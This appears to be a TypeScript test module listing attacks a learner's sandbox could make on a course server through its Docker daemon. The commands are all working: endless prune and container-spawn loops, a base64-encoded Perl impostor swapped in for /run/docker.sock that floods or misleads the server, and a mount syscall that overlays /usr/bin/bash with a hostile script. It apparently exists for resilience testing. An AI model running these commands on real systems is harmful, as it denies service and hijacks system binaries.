import type { Attack } from "./attacks.ts";

const SECONDS = 60;
/** Perl that answers one connection, of which it has standard input and output. */
const ANSWERS = `$| = 1; $SIG{PIPE} = 'DEFAULT';
sub reply { print "HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: ", length($_[0]), "\\r\\n\\r\\n", $_[0] }
sub stream { print "HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nConnection: close\\r\\n\\r\\n" }
while (defined(my $line = <STDIN>)) {
  my ($path) = $line =~ m{^[A-Z]+ (\\S+)} or next;
  1 while defined($line = <STDIN>) && $line ne "\\r\\n";
  OWN
  if ($path =~ m{/_ping}) { reply('OK') }
  elsif ($path =~ m{/version}) { reply('{"Version":"1.0","ApiVersion":"1.41"}') }
  elsif ($path =~ m{/events}) { stream(); sleep ${SECONDS} }
  elsif ($path =~ m{/volumes}) { reply('{"Volumes":[]}') }
  else { reply('[]') }
}`;
const LOOPBACK = "http://127.0.0.1:7777/x";
const VOLUMES = 400_000;
const FORGED = '{"Type":"volume","Action":"create","Actor":{"ID":"v","Attributes":{}}}';
/** Whatever the server runs by bash it runs among the learner's mounts. By the system call: mount(8) asks for a newer one. */
const EVIL_BASH =
  'printf \'#!/bin/sh\\nexec cat /dev/zero\\n\' > /tmp/evil; chmod 755 /tmp/evil; perl -e \'my @at = ("/tmp/evil", "/usr/bin/bash", ""); syscall(165, $at[0], $at[1], $at[2], 4096, 0)\'';

/** What comes from the sandbox's own daemon, and from what stands in its place. */
export const ATTACKS_BY_DAEMON: readonly Attack[] = [
  {
    name: "prunes without end",
    kind: "daemon",
    line: () =>
      "for i in $(seq 300); do docker container prune -f; docker system prune -f; sleep 0.1; done > /dev/null",
  },
  {
    name: "starts containers without end",
    kind: "daemon",
    line: () => `timeout ${SECONDS} bash -c 'while :; do docker run -d --rm alpine sleep 1; done' > /dev/null`,
  },
  inPlaceOfDaemon(
    "sends the server elsewhere in place of its daemon",
    `print "HTTP/1.1 302 Found\\r\\nLocation: ${LOOPBACK}\\r\\nContent-Length: 0\\r\\n\\r\\n"; next;`,
  ),
  inPlaceOfDaemon(
    "answers zeros without end in place of its daemon",
    `if ($path !~ m{/version|/events|/_ping}) { stream(); print "\\0" x 65536 while 1 }`,
  ),
  inPlaceOfDaemon(
    `has ${VOLUMES.toLocaleString("en")} volumes in place of its daemon, asked for again at each event`,
    `our $list = '{"Volumes":[' . join(',', map { qq({"Name":"volume-$_","CreatedAt":"2026-01-01T00:00:00Z"}) } 1..${VOLUMES}) . ']}' if $path =~ m{/volumes};
    if ($path =~ m{/volumes}) { reply($list); next }
    if ($path =~ m{/events}) { stream(); while (1) { print '${FORGED}', "\\n"; select(undef, undef, undef, 0.05) } }`,
  ),
  inPlaceOfDaemon(
    "tells an event that does not end in place of its daemon",
    `if ($path =~ m{/events}) { stream(); print '{"Type":"'; print 'x' x 65536 while 1 }`,
  ),
  {
    name: "answers the server's questions about files without end",
    kind: "daemon",
    opens: { lesson: "docker-is", step: "chroot" },
    line: () =>
      `${EVIL_BASH}; for i in $(seq 200); do docker volume create probed; docker volume rm probed; sleep 0.2; done > /dev/null`,
  },
];

function inPlaceOfDaemon(name: string, own: string): Attack {
  const program = Buffer.from(ANSWERS.replace("OWN", () => own)).toString("base64");
  const listen = `timeout ${SECONDS} socat UNIX-LISTEN:/run/docker.sock,fork EXEC:'perl /tmp/answers'`;
  // The pipe to the true one ends, so that the server asks anew.
  const line = `base64 -d <<< ${program} > /tmp/answers; mv /run/docker.sock /run/true.sock; (${listen} &); sleep 0.5; pkill -f UNIX-CONNECT:/run/docker.sock; sleep ${SECONDS}; mv /run/true.sock /run/docker.sock`;
  return { name, kind: "daemon", line: () => line };
}
